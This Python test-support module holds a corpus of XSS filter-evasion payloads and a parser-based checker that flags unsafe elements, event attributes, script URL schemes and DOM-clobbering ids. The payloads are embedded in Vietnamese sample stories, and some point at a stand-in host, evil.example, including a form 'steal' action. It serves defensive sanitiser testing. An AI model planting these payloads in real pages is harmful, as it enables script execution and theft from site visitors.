"""Hostile content and the checker that proves it never becomes live markup.

The corpus gathers what attackers paste into CMS fields (OWASP's XSS filter evasion cheat sheet, html5sec.org,
mutation XSS through foreign content), as a contributor's story could carry it. The checker parses HTML the way a
browser does (Lexbor, an HTML5-conformant parser) and lists every element, attribute or URL that could run code,
load something from elsewhere, or take over the page.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable

from selectolax.lexbor import LexborHTMLParser, LexborNode

HOSTILE_STORIES: dict[str, str] = {
    "ma-doc-the-phan-tu": """\
Phần 1 của câu chuyện có mã độc do người sửa hồ sơ vô tình dán vào. Dữ liệu mẫu.

<script>alert('XSS-script')</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert('XSS-split')</script>
<style>body { display: none }</style>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="&lt;script&gt;alert('XSS-srcdoc')&lt;/script&gt;"></iframe>
<object data="evil.swf" type="application/x-shockwave-flash"></object>
<embed src="evil.swf">
<applet code="Evil.class"></applet>
<form action="https://evil.example/steal"><input name="cccd">
<button formaction="javascript:alert('XSS-formaction')">Gửi</button></form>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0; url=javascript:alert('XSS-refresh')">
<meta http-equiv="refresh" content="0; url=https://evil.example/">

Hết phần 1:
<a href="../../linh-vuc/giam-ngheo/">các gương giảm nghèo</a>, <a href="https://example.vn/bai-bao">bài báo</a>.
""",
    "ma-doc-su-kien-duong-dan": """\
Phần 2 của câu chuyện có mã độc do người sửa hồ sơ vô tình dán vào. Dữ liệu mẫu.

<p onclick="alert('XSS-onclick')" onmouseover="alert('XSS-onmouseover')">Đoạn văn có sự kiện.</p>
<img src="anh-khac.jpg" onerror="alert('XSS-onerror')" alt="ảnh">
<body onload="alert('XSS-onload')">
<details open ontoggle="alert('XSS-ontoggle')"><summary>Chi tiết</summary></details>
<video><source onerror="alert('XSS-video')"></video>
<x-card onclick="alert('XSS-custom')">Thẻ tự đặt</x-card>
<p>Tab <a href="jav&#x09;ascript:alert('XSS-tab')">liên kết tab</a>, xuống dòng
<a href="jav&#x0A;ascript:alert('XSS-newline')">liên kết xuống dòng</a>, chữ hoa
<a href="JaVaScRiPt:alert('XSS-case')">liên kết chữ hoa</a>, thực thể
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS-decimal')">thập phân</a>
<a href="&#x6A;avascript&#x3A;alert('XSS-hex')">thập lục phân</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058\
alert('XSS-padded')">đệm số 0</a>
<a href=" &#14; javascript:alert('XSS-control')">ký tự điều khiển</a>
<a href="java&Tab;script:alert('XSS-named-tab')">tab có tên</a>
<a href="vbscript:msgbox('XSS-vbscript')">vbscript</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTLWRhdGEnKTwvc2NyaXB0Pg==">data</a>
<a href="livescript:alert('XSS-livescript')">livescript</a>
<img src="javascript:alert('XSS-img-src')" alt="">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="">
<img src=x:alert('XSS-eval') onerror=eval(src) alt="">
<img srcset="javascript:alert('XSS-srcset') 1x" src="a.jpg" alt="">
<a href="#" style="behavior: url(evil.htc)">behaviour</a>
<div style="background:url(javascript:alert('XSS-css-url'))">nền</div>
<p style="width: expression(alert('XSS-expression'))">biểu thức</p>
<table background="javascript:alert('XSS-table')"><tr><td>ô</td></tr></table></p>

Hết phần 2:
<a href="../../linh-vuc/giam-ngheo/">các gương giảm nghèo</a>, <a href="https://example.vn/bai-bao">bài báo</a>.
""",
    "ma-doc-svg": """\
Phần 3 của câu chuyện có mã độc do người sửa hồ sơ vô tình dán vào. Dữ liệu mẫu.

<svg onload="alert('XSS-svg-onload')"><script>alert('XSS-svg-script')</script></svg>
<svg><a xlink:href="javascript:alert('XSS-svg-link')"><text x="0" y="20">svg</text></a></svg>
<svg><animate onbegin="alert('XSS-animate')" attributeName="x" dur="1s"/></svg>

Hết phần 3:
<a href="../../linh-vuc/giam-ngheo/">các gương giảm nghèo</a>, <a href="https://example.vn/bai-bao">bài báo</a>.
""",
    "ma-doc-markdown": """\
Phần 4 của câu chuyện có mã độc do người sửa hồ sơ vô tình dán vào. Dữ liệu mẫu.

<h2 id="__config">Chiếm id của giao diện</h2>
<h3 id="__drawer" name="__search">Chiếm id khác</h3>

[liên kết Markdown](javascript:alert('XSS-md-link'))
[liên kết Markdown có tab](jav&#x09;ascript:alert('XSS-md-tab'))
![ảnh Markdown](javascript:alert('XSS-md-image'))
<javascript:alert('XSS-autolink')>
[liên kết tham chiếu][doc], [gương y tế](../../linh-vuc/y-te/)

[doc]: javascript:alert('XSS-reference')

Đoạn có thuộc tính chèn vào.
{: onclick="alert('XSS-attr-list')" style="color: red" }

## Tiêu đề có thuộc tính {: #__search onclick="alert('XSS-heading-attr')" }

```html
<script>alert('XSS-fenced')</script>
```

Mã trong dòng `<script>alert('XSS-inline-code')</script>` vẫn chỉ là chữ.

## Khen thưởng

Mục trùng tên với mục của trang, có chú thích[^1] và [liên kết trong bài](#bai-khen-thuong).

## Ex material scripts

Mục trùng mã của một phần tử của giao diện (`ex-material-scripts`): thành `bai-ex-material-scripts`.

[^1]: Chú thích cuối bài.

Hết phần 4:
<a href="../../linh-vuc/giam-ngheo/">các gương giảm nghèo</a>, <a href="https://example.vn/bai-bao">bài báo</a>.
""",
    "ma-doc-phan-tu-nuot-van-ban": """\
Phần 5 của câu chuyện có mã độc do người sửa hồ sơ vô tình dán vào. Dữ liệu mẫu.

<math><mtext><table><mglyph><style><img src=x onerror="alert('XSS-mxss')">
<noscript><p title="</noscript><img src=x onerror=alert('XSS-noscript')>"></noscript>
<template><script>alert('XSS-template')</script></template>
<textarea><script>alert('XSS-textarea')</script></textarea>
<!--><script>alert('XSS-comment')</script>-->
<![CDATA[<script>alert('XSS-cdata')</script>]]>
<isindex action="javascript:alert('XSS-isindex')" type="image">

Hết phần 5:
<a href="../../linh-vuc/giam-ngheo/">các gương giảm nghèo</a>, <a href="https://example.vn/bai-bao">bài báo</a>.
""",
}
"""Story Markdown by slug, one kind of attack each; every story ends with "Hết phần N", which must still be read.
The last one holds elements that swallow the rest of a document when left unclosed, so nothing follows it."""

SWALLOWING = "ma-doc-phan-tu-nuot-van-ban"


HOSTILE_TEXT = "Hội \"Bạn & Tôi\" 'O'Neil' `mã` *đậm* _nghiêng_ [x](javascript:alert(1)) &lt;script&gt; {{ 7*7 }} &amp;"
"""Plain text the schema accepts (no `<` or `>`), full of characters that mean something in HTML, attributes,
Markdown, YAML, Jinja, JSON and XML. Every page must show it exactly as written."""

FORBIDDEN_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
        "textarea", "select", "base", "link", "meta", "svg", "math", "template", "noscript", "isindex", "video",
        "audio", "source", "xmp", "plaintext", "noembed", "portal", "param",
    }
)  # fmt: skip
"""Elements a story or feed item must never carry (the theme's own page chrome is checked separately)."""

URL_ATTRIBUTES = frozenset(
    {
        "href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "longdesc",
        "xlink:href", "codebase", "dynsrc", "lowsrc", "ping", "manifest", "icon", "content",
    }
)  # fmt: skip
SAFE_SCHEMES = frozenset({"", "http", "https", "mailto", "tag"})
_WHITESPACE_AND_CONTROL = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
THEME_IDS = frozenset({"__config", "__drawer", "__search", "__palette_0", "__palette_1", "__consent"})
"""Ids the theme's scripts look up: story markup claiming one would take over the page (DOM clobbering)."""


def url_scheme(value: str) -> str:
    """The scheme a browser would see: whitespace and control characters anywhere are dropped first, as the URL
    standard does for tab and newline and browsers do for leading control characters; "" for a relative URL."""
    match = _SCHEME.match(_WHITESPACE_AND_CONTROL.sub("", value))
    return match.group(1).lower() if match else ""


def _nodes(html: str, fragment: bool) -> Iterable[LexborNode]:
    tree = LexborHTMLParser(html)
    root = tree.body if fragment else tree.root
    if root is None:
        return []
    return root.traverse(include_text=False)


def unsafe_markup(html: str, fragment: bool = True, theme_scripts: frozenset[str] = frozenset()) -> list[str]:
    """Everything in `html` that could run code or load something the story did not mean to show.

    `fragment`: a story or feed item, where none of FORBIDDEN_ELEMENTS may appear. A whole page may carry the
    theme's chrome: its `<script>` elements must be among `theme_scripts` (src, or the text of inline ones),
    `<meta>` and `<link>` may not refresh the page or load from another site.
    """
    found: list[str] = []
    for node in _nodes(html, fragment):
        tag = node.tag or ""
        attributes = {name.lower(): value or "" for name, value in node.attributes.items()}
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attributes.items())}>"
        if fragment and tag in FORBIDDEN_ELEMENTS:
            found.append(f"element {where}")
        elif not fragment:
            found += _page_chrome_problems(node, tag, attributes, where, theme_scripts)
        for name, value in attributes.items():
            if name.startswith("on"):
                found.append(f"event attribute {name} in {where}")
            elif name == "style" and re.search(r"expression|url\s*\(|behaviou?r|javascript|@import", value, re.I):
                found.append(f"active CSS in {where}")
            elif name in URL_ATTRIBUTES and name != "content":
                candidates = [part.strip().split(" ")[0] for part in value.split(",")] if name == "srcset" else [value]
                for candidate in candidates:
                    if url_scheme(candidate) not in SAFE_SCHEMES:
                        found.append(f"{url_scheme(candidate)}: URL in {where}")
            elif name == "id" and value in THEME_IDS and fragment:
                found.append(f"theme id {value!r} claimed by {where}")
    return found


def _page_chrome_problems(
    node: LexborNode, tag: str, attributes: dict[str, str], where: str, theme_scripts: frozenset[str]
) -> list[str]:
    if tag == "script" and attributes.get("type", "").lower() == "application/ld+json":
        # Structured data is never executed; it is safe as long as nothing broke out of it (that would leave text
        # that no longer parses as JSON) and nothing could: no `<` that might close the element early.
        text = node.text(deep=True) or ""
        try:
            json.loads(text)
        except ValueError:
            return [f"structured data that is not JSON (broken out?): {where} {text[:80]!r}"]
        return [f"`<` inside structured data: {where}"] if "<" in text else []
    if tag == "script":
        key = _script_key(node)
        return [] if key in theme_scripts else [f"script not from the theme: {where} {key[:80]!r}"]
    if tag in ("iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "isindex"):
        return [f"element {where}"]
    if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
        target = attributes.get("content", "").split("url=", 1)[-1]
        if url_scheme(target) or target.startswith("//"):
            return [f"refresh away from the site: {where}"]
    if tag == "link" and attributes.get("rel", "") in ("stylesheet", "import", "preload", "modulepreload"):
        href = attributes.get("href", "")
        if url_scheme(href) or href.startswith("//"):
            return [f"stylesheet or script from elsewhere: {where}"]
    return []


def scripts_of(html: str) -> set[str]:
    """The theme's scripts on a page built from harmless content: src, or the text of inline ones."""
    return {
        _script_key(node) for node in LexborHTMLParser(html).root.traverse(include_text=False) if node.tag == "script"
    }


def _script_key(node: LexborNode) -> str:
    """A theme script as the same on every page: its src or text, with the way back to the site root
    (`../../`, `..`, `.`, `/`) taken out."""
    text = node.attributes.get("src") or (node.text(deep=True) or "").strip()
    text = re.sub(r'"(?:\.\./)*\.\.?"|"/"', '""', text)
    text = re.sub(r"(?:\.\./)+", "", text)
    return re.sub(r'(^|")/(?=assets/)', r"\1", text)


def text_of(html: str, selector: str) -> list[str]:
    """The text a reader sees in every element matching `selector`."""
    return [node.text(deep=True) for node in LexborHTMLParser(html).css(selector)]
